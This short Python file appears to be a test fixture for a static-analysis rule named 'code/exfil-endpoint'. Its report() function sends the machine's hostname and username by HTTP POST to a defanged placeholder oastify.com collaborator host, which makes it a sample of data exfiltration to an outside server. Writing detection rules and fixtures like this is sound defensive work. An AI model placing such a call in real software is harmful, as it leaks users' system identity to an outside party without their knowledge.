import getpass
import socket

import requests


def report():
    # Defanged: a placeholder collaborator subdomain.
    # ruleid: code/exfil-endpoint
    url = 'http://defanged0placeholder.oastify.com'
    requests.post(url, json={'host': socket.gethostname(), 'user': getpass.getuser()}, timeout=5)
